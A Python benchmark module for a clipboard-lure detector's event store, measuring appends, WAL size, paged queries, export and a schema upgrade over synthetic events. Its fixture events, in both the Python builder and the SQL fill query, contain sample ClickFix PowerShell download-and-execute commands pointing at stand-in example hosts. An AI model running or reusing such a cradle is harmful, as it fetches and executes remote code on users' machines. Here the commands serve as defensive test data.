"""Event store: sustained appends, one filtered page among a million events, JSON Lines export,
and the upgrade of a million events written before schema 6."""

from __future__ import annotations

import json
import sqlite3
import statistics
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from app.events import Event
from app.guard.service import TICK
from app.storage import (
    EventFilter,
    EventStore,
    nul_scan,
    queries,
    schema,
    search_index,
    templates,
)
from app.storage.checkpointer import CHECKPOINT_EVENTS, HOLD_S, RESTART_FRAMES
from app.storage.database import WAL_BACKSTOP_PAGES, WAL_LIMIT_BYTES
from app.storage.rows import to_us
from app.storage.store import WAL_IDLE_S, WAL_KEEP_BYTES
from bench.report import BenchError, Result, met, table

APPENDS = 10_000
APPEND_WARMUP = 500
APPEND_TARGET = 10_000.0  # per second
BIG = 1_000_000
PAGE = 200
PAGE_TARGET_MS = 50.0
PAGE_RUNS = 5
SEARCH_TARGET_MS = 100.0  # a free-text search's first page, and its capped count, over BIG events
COUNT_CAP = 10_000  # what the viewer counts a search up to (ui/viewer/stats.py)
EXPORT = 100_000
EXPORT_TARGET_S = 2.0
END = datetime(2026, 6, 1, tzinfo=UTC)  # the newest event of the big database
SPAN = timedelta(days=365)  # ... the oldest is a year older
HIDDEN = "hidden-after-nul"  # a word the upgrade's old events hide behind a NUL
HIDDEN_EVERY = 1_000  # ... one event in so many


def _event(i: int, when: datetime) -> Event:
    """A realistic flagged event: a ClickFix lure blocked in the Run dialog, varied by `i`."""
    return Event(
        kind=("clipboard_flagged", "paste_warned", "paste_blocked")[i % 3],
        time=when,
        level=("suspicious", "malicious")[i % 2],
        score=60 + i % 40,
        rules=("clickfix.run-dialog", "powershell.download-cradle"),
        summary="A web page put a PowerShell download command on the clipboard",
        source=f"hxxps://captcha-{i % 5000}[.]example/verify",
        target=("run_dialog", "terminal", "browser_console")[i % 3],
        action="blocked",
        text=f'powershell -w hidden -c "iwr hxxps://cdn{i % 5000}[.]example/p{i}.ps1 | iex" '
        f"# I am not a robot - Verification ID: {i}",
        sha256=f"{i:064x}",
        indicators=({"kind": "url", "value": f"https://cdn{i}.example/p.ps1", "display": "…"},),
        findings=(
            {
                "rule_id": "powershell.download-cradle",
                "title": "Downloads and runs a PowerShell script",
                "explanation": "The command fetches a script from the internet and runs it "
                "at once, the way ClickFix lures install stealers.",
                "technique": "T1204.004",
                "layer": 0,
                "evidence": "iwr … | iex",
            },
        ),
        details={"complete": True, "elapsed_ms": 0.05},
        host="bench-host",
        user="bench",
    )


# ----------------------------------------------------------------------------------------------
# Appends
# ----------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class AppendTiming:
    rate: float
    p50_us: float
    p99_us: float
    max_us: float
    cpu_rate: float  # appends per second of the appending thread's own CPU time
    # seconds the appending thread was off the CPU without waiting for one (the disk, a
    # lock): what other work on the machine cannot lengthen; None where Linux's schedstat
    # is not to be had
    blocked_s: float | None


def _schedstat() -> tuple[float, float] | None:
    """(seconds on a CPU, seconds waiting for one) of this thread, from Linux's schedstat."""
    try:
        run, wait, _slices = Path("/proc/thread-self/schedstat").read_text().split()
    except (OSError, ValueError):
        return None
    return int(run) / 1e9, int(wait) / 1e9


def time_appends(store: EventStore, count: int = APPENDS) -> AppendTiming:
    """`count` appends one after another (each its own committed transaction), after a warm-up."""
    now = datetime.now(UTC)
    for i in range(APPEND_WARMUP):
        store.append(_event(i, now))
    events = [_event(i, now) for i in range(count)]
    laps: list[float] = []
    sched = _schedstat()
    start = time.perf_counter()
    cpu = time.thread_time()
    for event in events:
        lap = time.perf_counter_ns()
        if store.append(event) is None:
            raise BenchError(f"an append failed: {store.status['degraded']}")
        laps.append((time.perf_counter_ns() - lap) / 1000)
    total = time.perf_counter() - start
    cpu = time.thread_time() - cpu
    after = _schedstat()
    blocked = None
    if sched is not None and after is not None:
        blocked = max(0.0, total - (after[0] - sched[0]) - (after[1] - sched[1]))
    laps.sort()
    return AppendTiming(
        rate=count / total,
        p50_us=laps[len(laps) // 2],
        p99_us=laps[int(len(laps) * 0.99)],
        max_us=laps[-1],
        cpu_rate=count / cpu,
        blocked_s=blocked,
    )


@dataclass(frozen=True)
class WalAfterBurst:
    grown: int  # bytes of WAL file when the burst ended
    after: int  # ... once the appends had paused (or at the deadline)
    seconds: float  # from the end of the burst until then


WAL_WAIT_S = 30.0  # how long the bench waits for the WAL to come back down


def wal_after_burst(store: EventStore) -> WalAfterBurst:
    """The WAL file's size at the end of a burst, and once the guard's worker, idle, has called
    `index_when_idle` every TICK (as it does) until the file is at most WAL_KEEP_BYTES."""
    wal = Path(f"{store.path}-wal")

    def size() -> int:
        try:
            return wal.stat().st_size
        except FileNotFoundError:
            return 0

    grown = size()
    start = time.perf_counter()
    while size() > WAL_KEEP_BYTES and time.perf_counter() - start < WAL_WAIT_S:
        store.index_when_idle()
        time.sleep(TICK)
    return WalAfterBurst(grown, size(), time.perf_counter() - start)


def wal_table(empty: WalAfterBurst, full: WalAfterBurst) -> Result:
    mib = 1024 * 1024
    rows = [
        [
            name,
            f"{w.grown / mib:.1f} MiB",
            f"{w.after / mib:.1f} MiB",
            f"{w.seconds:.1f} s",
            f"≤ {WAL_KEEP_BYTES / mib:.0f} MiB",
            met(w.after <= WAL_KEEP_BYTES),
        ]
        for name, w in (("new store", empty), (f"store holding {BIG:,} events", full))
    ]
    notes = [
        f"The WAL file right after the {APPENDS:,} appends above, and once they have paused: "
        f"the guard's worker calls `EventStore.index_when_idle` every {TICK} s when it has "
        f"nothing to do, and after {WAL_IDLE_S:.0f} s without a write the store has its "
        "checkpointer thread run a TRUNCATE checkpoint, which cuts a WAL grown past "
        f"{WAL_KEEP_BYTES / mib:.0f} MiB to nothing (the cut happens on that thread, while "
        "nothing is appended). SQLite otherwise keeps the file at the size it grew to, up to "
        f"its size limit ({WAL_LIMIT_BYTES / mib:.0f} MiB), for as long as the guard runs.",
    ]
    return Result(
        "Event store: the WAL after a burst",
        table(
            ["store", "after the burst", "once paused", "took", "target", "met?"], rows, "lrrrlc"
        ),
        notes,
    )


def appends(empty: AppendTiming, full: AppendTiming) -> Result:
    rows = [
        [
            name,
            f"{t.rate:,.0f} /s",
            f"{t.p50_us:.0f} µs",
            f"{t.p99_us:.0f} µs",
            f"{t.max_us / 1000:.1f} ms",
            f"{t.cpu_rate:,.0f} /s",
            "n/a" if t.blocked_s is None else f"{t.blocked_s:.2f} s",
            f"≥ {APPEND_TARGET:,.0f} /s",
            met(t.rate >= APPEND_TARGET),
        ]
        for name, t in (("new store", empty), (f"store holding {BIG:,} events", full))
    ]
    notes = [
        f"{APPENDS:,} `EventStore.append` calls in a row after {APPEND_WARMUP} warm-up calls, "
        "each its own committed transaction (WAL, `synchronous=NORMAL`), one forwarding sink "
        "configured. The WAL is copied into the database (a checkpoint, with its two "
        f"fsyncs) by a thread and connection of the store's own every {CHECKPOINT_EVENTS} "
        "events, while the appends go on. In a burst it never catches up by itself, so "
        f"once the WAL holds {RESTART_FRAMES:,} pages (an append writes about 4: some 9,000 "
        "appends; each batch below writes more) that thread holds the appends back while "
        "it copies the rest and syncs, and the WAL starts over; an append waits for that "
        f"{HOLD_S * 1000:.0f} ms at the most, then goes on (that try failing). The appending "
        f"thread checkpoints only as a backstop, at {WAL_BACKSTOP_PAGES:,} pages. In the "
        "guard its sentinel also syncs every "
        "20 s, so a power cut loses at most that long, or that many events. The events "
        "are built beforehand, their conversion to a row (with the "
        "redaction of secrets) is timed. The search index, the events per day and hour "
        "(summary tables) and per day and template take the events in batches of "
        f"{search_index.INDEX_BATCH}: in the guard its worker takes a batch when it has "
        "nothing else to do and half a batch waits; appends in a row leave it no idle "
        f"moment, so once {search_index.INDEX_LAG:,} events wait unindexed an append takes a "
        f"batch (here the {search_index.INDEX_LAG:,}th append, warm-up included: one batch "
        "in the timed appends; a longer burst pays one batch per "
        f"{search_index.INDEX_BATCH} appends after that). Until then a search, count "
        "or chart reads the events not counted in yet from the log. *on CPU* is "
        "appends per second of the appending thread's own CPU time: what the rate would be "
        "with the CPU to itself and no wait for the disk (other work on the machine lowers "
        f"*rate*, not this). *blocked* is how long, of the {APPENDS:,} appends' wall time, "
        "the appending thread was off the CPU without waiting for one (Linux's schedstat: "
        "wall time less time on a CPU and time queued for one): its waits for the disk "
        "(fsyncs) and for locks, which a machine busy with other work does not lengthen "
        "much. With the CPU to itself the rate would be about "
        "appends / (CPU time + blocked).",
    ]
    return Result(
        "Event store: sustained appends",
        table(
            ["store", "rate", "p50", "p99", "max", "on CPU", "blocked", "target", "met?"],
            rows,
            "lrrrrrrlc",
        ),
        notes,
    )


# ----------------------------------------------------------------------------------------------
# A million events
# ----------------------------------------------------------------------------------------------

# Pseudo-random but reproducible columns from a multiplicative hash of the row number.
_FILL = """
WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < :count - 1),
-- A 32-bit integer hash (two multiply-xorshift rounds; SQLite has no XOR: a ^ b is
-- (a | b) - (a & b)), so that level, kind and target vary independently of each other.
h1(i, x) AS (SELECT i, ((i + 1) * 73244475) % 4294967296 FROM n),
h2(i, x) AS (SELECT i, (((x | (x >> 16)) - (x & (x >> 16))) * 73244475) % 4294967296 FROM h1),
h3(i, x) AS (SELECT i, (x | (x >> 16)) - (x & (x >> 16)) FROM h2),
h(i, a, b, c) AS (SELECT i, x % 100, (x / 100) % 100, (x / 10000) % 7 FROM h3)
INSERT INTO events (time, kind, level, score, rules, summary, source, target, action, text,
                    sha256, indicators, findings, details, host, user, app_version)
SELECT
    :start + i * :step,
    CASE WHEN b < 40 THEN 'clipboard_flagged' WHEN b < 65 THEN 'paste_warned'
         WHEN b < 85 THEN 'paste_blocked' WHEN b < 94 THEN 'clipboard_neutralized'
         WHEN b < 99 THEN 'started' ELSE 'error' END,
    -- The level follows the kind, as in real logs: blocked pastes are never clean.
    CASE WHEN b < 40 THEN (CASE WHEN a < 30 THEN 'info' WHEN a < 75 THEN 'suspicious'
                                ELSE 'malicious' END)
         WHEN b < 65 THEN 'suspicious' WHEN b < 94 THEN 'malicious' ELSE 'clean' END,
    a,
    '["clickfix.run-dialog","powershell.download-cradle"]',
    'A web page put a PowerShell download command on the clipboard',
    printf('hxxps://captcha-%d[.]example/verify', (i * 7) % 5000),
    CASE c WHEN 0 THEN 'run_dialog' WHEN 1 THEN 'terminal' WHEN 2 THEN 'browser_console'
           WHEN 3 THEN 'explorer_bar' WHEN 4 THEN 'other' WHEN 5 THEN 'unknown' ELSE NULL END,
    'blocked',
    CASE WHEN b < 94 THEN printf('powershell -w hidden -c "iwr hxxps://cdn%d[.]example/p%d.ps1'
        || ' | iex" # I am not a robot - Verification ID: %d', (i * 13) % 5000, i, i) END,
    printf('%064x', i),
    printf('[{"kind":"url","value":"https://cdn%d.example/p.ps1"}]', i % 5000),
    '[{"rule_id":"powershell.download-cradle","title":"Downloads and runs a PowerShell script",'
    || '"explanation":"The command fetches a script from the internet and runs it at once, the '
    || 'way ClickFix lures install stealers.","technique":"T1204.004","layer":0}]',
    '{"complete":true,"elapsed_ms":0.05}',
    'bench-host', 'bench', '0.1.0'
FROM h
"""


def build_big(directory: Path, count: int = BIG, end: datetime = END) -> float:
    """A store of `count` events over the year before `end`, filled by one INSERT ... SELECT;
    seconds taken.

    The events' indexes and triggers are set aside meanwhile and made again after (building an
    index at once is several times faster than growing it row by row), from the schema's own
    SQL; the facets table and the search index are filled as the triggers would have.
    """
    started = time.perf_counter()
    EventStore.open(directory, verify=False).close()  # the real schema, by its migrations
    conn = sqlite3.connect(directory / "events.db", isolation_level=None)
    conn.execute("PRAGMA synchronous = OFF")  # a benchmark fixture: speed over durability
    conn.execute("PRAGMA cache_size = -200000")
    saved = conn.execute(
        "SELECT type, name, sql FROM sqlite_master WHERE tbl_name = 'events' "
        "AND type IN ('index', 'trigger') AND sql IS NOT NULL"
    ).fetchall()
    step = (to_us(end) - to_us(end - SPAN)) // count
    conn.execute("BEGIN")
    for kind, name, _sql in saved:
        conn.execute(f"DROP {kind} {name}")
    conn.execute(_FILL, {"count": count, "start": to_us(end - SPAN), "step": step})
    for _kind, _name, sql in saved:
        conn.execute(sql)
    conn.execute("INSERT OR IGNORE INTO facets SELECT DISTINCT level, kind, target FROM events")
    conn.execute("INSERT INTO events_fts (events_fts) VALUES ('rebuild')")  # the search index
    # 'rebuild' leaves a dozen large segments on the lowest level, which the next appends'
    # batches would start merging (100 ms and more each); a log that grew batch by batch
    # has merged them already, into few segments on the upper levels.
    conn.execute("INSERT INTO events_fts (events_fts) VALUES ('optimize')")
    conn.execute("UPDATE search_state SET indexed = (SELECT max(id) FROM events)")  # ... its mark
    conn.execute(  # the events per day and template, as the triggers would have counted them
        "INSERT INTO event_templates SELECT time / 86400000000, level, kind, "
        "ifnull(target, char(0)), summary, rules, count(*) FROM events GROUP BY 1, 2, 3, 4, 5, 6"
    )
    conn.execute("UPDATE event_templates_fill SET counted = (SELECT max(id) FROM events)")
    conn.execute(  # the events whose text holds a NUL, as the triggers would have listed them
        "INSERT INTO events_nul SELECT id FROM events WHERE instr(summary, char(0)) > 0 "
        "OR instr(text, char(0)) > 0 OR instr(source, char(0)) > 0"
    )
    for name, size in (("event_days", 86_400_000_000), ("event_hours", 3_600_000_000)):
        conn.execute(  # the counts the summary's batches would have kept
            f"INSERT INTO {name} SELECT time / {size}, level, kind, ifnull(target, char(0)), "
            "count(*) "
            "FROM events GROUP BY 1, 2, 3, 4"
        )
    conn.execute("UPDATE summary_state SET counted = (SELECT max(id) FROM events)")  # ... mark
    conn.execute("COMMIT")
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    return time.perf_counter() - started


@dataclass(frozen=True)
class PageCase:
    name: str
    filter: EventFilter
    before: Callable[[EventStore], int | None] = lambda store: None


def _deep(store: EventStore) -> int | None:
    """The id of the 50,000th newest malicious event: the page after it is 250 pages deep."""
    page = store.query(EventFilter(levels=frozenset({"malicious"})), limit=1)
    if not page or page[0].id is None:
        return None
    return page[0].id - 170_000


PAGE_CASES = [
    PageCase("newest, no filter", EventFilter()),
    PageCase("level = malicious", EventFilter(levels=frozenset({"malicious"}))),
    PageCase(
        "level ∈ {suspicious, malicious}, last 7 days",
        EventFilter(levels=frozenset({"suspicious", "malicious"}), since=END - timedelta(days=7)),
    ),
    PageCase(
        "kind = paste_blocked, target = run_dialog",
        EventFilter(kinds=frozenset({"paste_blocked"}), targets=frozenset({"run_dialog"})),
    ),
    PageCase("kind = error (1 %)", EventFilter(kinds=frozenset({"error"}))),
    PageCase(
        "kinds ∈ {error, started}, level = clean",
        EventFilter(kinds=frozenset({"error", "started"}), levels=frozenset({"clean"})),
    ),
    PageCase(
        "level = clean, kind = paste_blocked (none)",
        EventFilter(levels=frozenset({"clean"}), kinds=frozenset({"paste_blocked"})),
    ),
    PageCase(
        "levels {clean, info} × kinds {blocked, warned} (none)",
        EventFilter(
            levels=frozenset({"clean", "info"}), kinds=frozenset({"paste_blocked", "paste_warned"})
        ),
    ),
    PageCase(
        "one week, 200 days ago",
        EventFilter(since=END - timedelta(days=207), until=END - timedelta(days=200)),
    ),
    PageCase(
        "level = info, 2 targets, last 90 days",
        EventFilter(
            levels=frozenset({"info"}),
            targets=frozenset({"terminal", "browser_console"}),
            since=END - timedelta(days=90),
        ),
    ),
    PageCase(
        "level = malicious, 250 pages deep", EventFilter(levels=frozenset({"malicious"})), _deep
    ),
]

SEARCH_CASES = [
    ("search a common word (`powershell`)", EventFilter(search="PowerShell")),
    ("search a rare string (1 match)", EventFilter(search="Verification ID: 123456")),
    ("search a string found nowhere", EventFilter(search="no-such-text-anywhere")),
    (
        "search `cdn42[` + level = malicious",
        EventFilter(search="cdn42[", levels=frozenset({"malicious"})),
    ),
]


def _time_ms(fn: Callable[[], object], runs: int = PAGE_RUNS) -> tuple[float, float, object]:
    """(first run, median of the others) in ms, and the first run's result."""
    start = time.perf_counter()
    first = fn()
    first_ms = (time.perf_counter() - start) * 1000
    laps = []
    for _ in range(runs):
        start = time.perf_counter()
        fn()
        laps.append((time.perf_counter() - start) * 1000)
    return first_ms, statistics.median(laps), first


def pages(store: EventStore, build_s: float, open_s: float) -> Result:
    rows = []
    worst = 0.0
    for case in PAGE_CASES:
        before = case.before(store)
        first, median, got = _time_ms(lambda c=case, b=before: store.query(c.filter, PAGE, b))
        assert isinstance(got, list)
        worst = max(worst, first, median)
        rows.append(
            [
                case.name,
                len(got),
                f"{first:.1f} ms",
                f"{median:.1f} ms",
                f"≤ {PAGE_TARGET_MS:.0f} ms",
                met(max(first, median) <= PAGE_TARGET_MS),
            ]
        )
    for name, f in SEARCH_CASES:
        first, median, got = _time_ms(lambda f=f: store.query(f, PAGE), runs=2)
        assert isinstance(got, list)
        ok = max(first, median) <= SEARCH_TARGET_MS
        target = f"≤ {SEARCH_TARGET_MS:.0f} ms"
        rows.append([name, len(got), f"{first:.1f} ms", f"{median:.1f} ms", target, met(ok)])
        # The uncapped count of a search: no one waits on it (see the notes), so no target.
        first, median, got = _time_ms(lambda f=f: store.count(f), runs=2)
        rows.append(["… its uncapped count", got, f"{first:.1f} ms", f"{median:.1f} ms", "",
                     met(None)])  # fmt: skip
        first, median, got = _time_ms(lambda f=f: store.count(f, at_most=COUNT_CAP), runs=2)
        ok = max(first, median) <= SEARCH_TARGET_MS
        shown = f"> {COUNT_CAP:,}" if isinstance(got, int) and got > COUNT_CAP else got
        rows.append(
            [f"… counted up to {COUNT_CAP:,}", shown, f"{first:.1f} ms", f"{median:.1f} ms",
             target, met(ok)]
        )  # fmt: skip
    for name, fn in (
        (
            "count(level = malicious)",
            lambda: store.count(EventFilter(levels=frozenset({"malicious"}))),
        ),
        (
            "counts_by_day, last 30 days",
            lambda: store.counts_by_day(EventFilter(since=END - timedelta(days=30))),
        ),
        ("counts_by_day, whole year", lambda: store.counts_by_day()),
    ):
        first, median, got = _time_ms(fn, runs=2)
        size = got if isinstance(got, int) else len(got) if isinstance(got, list) else ""
        rows.append([name, size, f"{first:.1f} ms", f"{median:.1f} ms", "", met(None)])
    notes = [
        f"`EventStore.query(filter, limit={PAGE})` on a store of {BIG:,} events spread over a "
        "year, newest first: six kinds (40 % flagged, 25 % warned, 20 % blocked, 9 % "
        "neutralised, 5 % started, 1 % error), the level following the kind as in real logs "
        "(43 % suspicious, 39 % malicious, 12 % info, 6 % clean; blocked is never clean), "
        "seven targets (one of them none). *first* is the first call on a freshly opened "
        f"store, *median* the median of the next {PAGE_RUNS}; the file is in the OS cache.",
        "Free-text search is a case-insensitive substring of summary, text, source and rules. "
        "A trigram FTS5 index (`detail=none`) narrows it to the events that hold every "
        "trigram of the string, each checked exactly; a page first scans the "
        f"{queries.SEARCH_WINDOW:,} newest events directly (a word on many events fills it "
        "there). A count costs in proportion to the events that match: little for a rare "
        "string, a full pass for a word on every event; counted up to "
        f'{COUNT_CAP:,} (`count(f, at_most=…)`, what the viewer shows as "More than '
        f'{COUNT_CAP:,} events match") it stops there. No one waits on the uncapped count '
        "of a search (`count(f)`, its row has no target): the viewer counts a search up to "
        f"{COUNT_CAP:,} and gives the exact number from its chart's counts (see the viewer "
        "section), and the command line counts only without a search (`pasteguard forget "
        "--all`). Strings of fewer than three "
        "characters, or beyond ASCII, scan. The events above the search index's mark (at most "
        f"{search_index.INDEX_LAG:,} not yet indexed) are read directly. Without a search, "
        "counts and counts_by_day read the summary tables (events per UTC day and hour by "
        "level, kind and target), not the events. Rows without a target are shown n/a.",
        f"Building the store took {build_s:.1f} s (one `INSERT … SELECT`); opening it with "
        f"`PRAGMA quick_check` took {open_s:.2f} s. Worst page: {worst:.1f} ms.",
    ]
    return Result(
        f"Event store: one filtered page of {PAGE} among {BIG:,} events",
        table(["filter", "rows", "first", "median", "target", "met?"], rows, "lrrrlc"),
        notes,
    )


def _export_events(store: EventStore, f: EventFilter, out: Path) -> int:
    """What `pasteguard export --format jsonl` does: Events, their records, json.dumps."""
    count = 0
    with out.open("w", encoding="utf-8") as handle:
        for event in store.iter_events(f):
            handle.write(json.dumps(event.to_record(), ensure_ascii=False) + "\n")
            count += 1
    return count


def _export_jsonl(store: EventStore, f: EventFilter, out: Path) -> int:
    """The same records, with SQLite building the JSON (`EventStore.iter_jsonl`)."""
    count = 0
    with out.open("w", encoding="utf-8") as handle:
        for line in store.iter_jsonl(f):
            handle.write(line + "\n")
            count += 1
    return count


def _read_events(store: EventStore, f: EventFilter, out: Path) -> int:
    """Only reading the Events (the file is left empty)."""
    out.write_text("")
    return sum(1 for _ in store.iter_events(f))


def export(store: EventStore, directory: Path) -> Result:
    """Export the newest EXPORT events to JSON Lines, both ways."""
    newest = store.query(limit=1)[0]
    assert newest.id is not None
    boundary = store.get(newest.id - EXPORT + 1)
    if boundary is None:
        raise BenchError("the big store lacks the events to export")
    f = EventFilter(since=boundary.time)
    rows = []
    for name, how, judged in (
        ("`iter_jsonl`, as `pasteguard export --format jsonl` does", _export_jsonl, True),
        ("`iter_events` → `to_record()` → `json.dumps` (for comparison)", _export_events, False),
        ("`iter_events` alone: the store's part of row 1", _read_events, False),
    ):
        out = directory / "export.jsonl"
        start = time.perf_counter()
        count = how(store, f, out)
        elapsed = time.perf_counter() - start
        rows.append(
            [
                name,
                f"{count:,}",
                f"{out.stat().st_size / 1e6:.0f} MB",
                f"{elapsed:.2f} s",
                f"{count / elapsed:,.0f} /s",
                f"≤ {EXPORT_TARGET_S:.0f} s" if judged else "",
                met(count == EXPORT and elapsed <= EXPORT_TARGET_S) if judged else met(None),
            ]
        )
    notes = [
        f"The newest {EXPORT:,} of the {BIG:,} events (a `since` filter), read oldest first "
        "in batches of 1,000 and written as JSON Lines with the keys of `Event.to_record()`. "
        "The first row is what `pasteguard export --format jsonl` and the viewer's export do: "
        "SQLite's JSON functions build each record (the same keys, compact separators). The "
        "second row builds the same records in Python, for comparison; the third shows how "
        "much of that is the store reading and decoding the events.",
    ]
    return Result(
        "Event store: export to JSON Lines",
        table(["how", "events", "file", "time", "rate", "target", "met?"], rows, "lrrrrlc"),
        notes,
    )


def _as_version_5(path: Path) -> int:
    """Make the big file one that PasteGuard wrote before schema 6 (no list of the events
    holding a NUL, no events per day and template, the summary counted by triggers), in which
    every HIDDEN_EVERY-th event's text hides HIDDEN behind a NUL; how many do. The search
    index stays true: it holds no trigram after a NUL anyway."""
    conn = sqlite3.connect(path, isolation_level=None)
    try:
        conn.execute("BEGIN")
        # version 8: its summary triggers make way for version 5's (every event counted in)
        for table in ("event_days", "event_hours"):
            conn.execute(f"DROP TRIGGER {table}_out")
            conn.execute(f"DROP TRIGGER {table}_moved")
        conn.execute("DROP TABLE summary_state")
        for sql in [
            *(s for s in schema._V4_SUMMARY if s.startswith("CREATE TRIGGER") and "_in " in s),
            *(s for s in schema._V5_SUMMARY_PRUNED if s.startswith("CREATE TRIGGER event_")),
        ]:  # version 4's `_in`, version 5's `_out` and `_moved`
            conn.execute(sql)
        for trigger in (
            "events_nul_in", "events_nul_out", "events_nul_changed",  # version 6
            "event_templates_out", "event_templates_moved",  # version 7
        ):  # fmt: skip
            conn.execute(f"DROP TRIGGER {trigger}")
        conn.execute("DROP TRIGGER events_id_floor_out")  # version 9: ids without AUTOINCREMENT
        for name in (
            "events_nul", "events_nul_scan", "event_templates", "event_templates_fill",
            "events_id_floor",
        ):  # fmt: skip
            conn.execute(f"DROP TABLE {name}")
        (cookie,) = conn.execute("PRAGMA schema_version").fetchone()
        conn.execute("PRAGMA writable_schema = ON")  # the keyword back, as version 9 found it
        conn.execute(
            "UPDATE sqlite_master SET sql = replace(sql, 'INTEGER PRIMARY KEY,', "
            "'INTEGER PRIMARY KEY AUTOINCREMENT,') WHERE type = 'table' AND name = 'events'"
        )
        conn.execute(f"PRAGMA schema_version = {cookie + 1}")
        conn.execute("PRAGMA writable_schema = OFF")
        conn.execute(
            "INSERT INTO sqlite_sequence (name, seq) SELECT 'events', max(id) FROM events "
            "WHERE NOT EXISTS (SELECT 1 FROM sqlite_sequence WHERE name = 'events')"
        )
        hiding = conn.execute(
            "UPDATE events SET text = text || char(0) || ? WHERE id % ? = 0 AND text IS NOT NULL",
            (" " + HIDDEN, HIDDEN_EVERY),
        ).rowcount
        conn.execute("PRAGMA user_version = 5")
        conn.execute("COMMIT")
    finally:
        conn.close()
    return int(hiding)


def upgrade(directory: Path) -> Result:
    """Open the big file as written before schema 6 and list its old events as the guard does
    (app.storage.nul_scan, a step per write transaction); a word after a NUL is found before,
    while and after."""
    hiding = _as_version_5(directory / "events.db")
    f = EventFilter(search=HIDDEN)
    start = time.perf_counter()
    store = EventStore.open(directory, max_events=2 * BIG, verify=False)
    migrate_ms = (time.perf_counter() - start) * 1000
    conn = sqlite3.connect(directory / "events.db", isolation_level=None)
    try:
        before_ms, _, found_before = _time_ms(lambda: store.count(f), runs=1)
        total = store.count()
        steps: list[float] = []
        fills: list[float] = []
        for step, times in ((nul_scan.step, steps), (templates.fill_step, fills)):
            more = True
            while more:
                start = time.perf_counter()
                conn.execute("BEGIN IMMEDIATE")
                more = step(conn)
                conn.execute("COMMIT")
                times.append((time.perf_counter() - start) * 1000)
        listed = int(conn.execute("SELECT count(*) FROM events_nul").fetchone()[0])
        in_templates = int(conn.execute("SELECT sum(n) FROM event_templates").fetchone()[0])
        after_ms, _, found_after = _time_ms(lambda: store.count(f), runs=1)
        if (
            not found_before == found_after == listed == hiding
            or not store.count() == total == in_templates
        ):
            raise BenchError(
                f"upgrade: {hiding} events hide text, {listed} listed, found {found_before} "
                f"before and {found_after} after; {total} events before, {store.count()} "
                f"after, {in_templates} counted per day and template"
            )
    finally:
        conn.close()
        store.close()
    rows = [
        ["opening: the migrations to schemas 6 to 9", f"{migrate_ms:.0f} ms", ""],
        [f"search `{HIDDEN}`, before the old events are looked at", f"{before_ms:.0f} ms",
         f"{found_before:,} found"],
        [f"looking at the old events: {len(steps)} steps of {nul_scan.STEP_IDS:,} ids",
         f"{sum(steps):.0f} ms in all, longest step {max(steps):.0f} ms",
         f"{listed:,} listed of {hiding:,} hiding text; {total:,} events before and after"],
        [f"search `{HIDDEN}` after", f"{after_ms:.0f} ms", f"{found_after:,} found"],
        [f"counting the old events per day and template (schema 7): {len(fills)} steps of "
         f"{templates.STEP_IDS:,} ids", f"{sum(fills):.0f} ms in all, longest step "
         f"{max(fills):.0f} ms", f"{in_templates:,} counted"],
    ]  # fmt: skip
    return Result(
        f"Event store: upgrading {BIG:,} events written before schema 6 (and 7)",
        table(["step", "time", "result"], rows, "lrl"),
        [
            f"The big store made as PasteGuard wrote it before schema 6, with one event in "
            f"{HIDDEN_EVERY:,} hiding `{HIDDEN}` after a NUL in its text (SQLite's LIKE and "
            "the trigram index end a text at its first NUL). Opening it migrates the schema "
            "at once; the events already in it are then looked at in steps, newest first, "
            "each step one write transaction (in the guard: its retention run, appends going "
            "on between steps). Until they are all looked at, a search checks them by a scan "
            "(the first search row); then only the listed ones."
        ],
    )


def store_sections() -> list[Result]:
    with tempfile.TemporaryDirectory(prefix="pasteguard-bench-") as tmp:
        root = Path(tmp)
        with EventStore.open(root / "new", sinks=["syslog"]) as store:
            empty = time_appends(store)
            empty_wal = wal_after_burst(store)
        build_s = build_big(root / "big")
        start = time.perf_counter()
        store = EventStore.open(root / "big", max_events=2 * BIG)
        open_s = time.perf_counter() - start
        try:
            page_result = pages(store, build_s, open_s)
            export_result = export(store, root)
            store.set_sinks(["syslog"])
            full = time_appends(store)
            full_wal = wal_after_burst(store)
        finally:
            store.close()
        upgrade_result = upgrade(root / "big")
    return [
        appends(empty, full),
        wal_table(empty_wal, full_wal),
        page_result,
        export_result,
        upgrade_result,
    ]


run = store_sections  # the name bench/__main__.py expects of a section
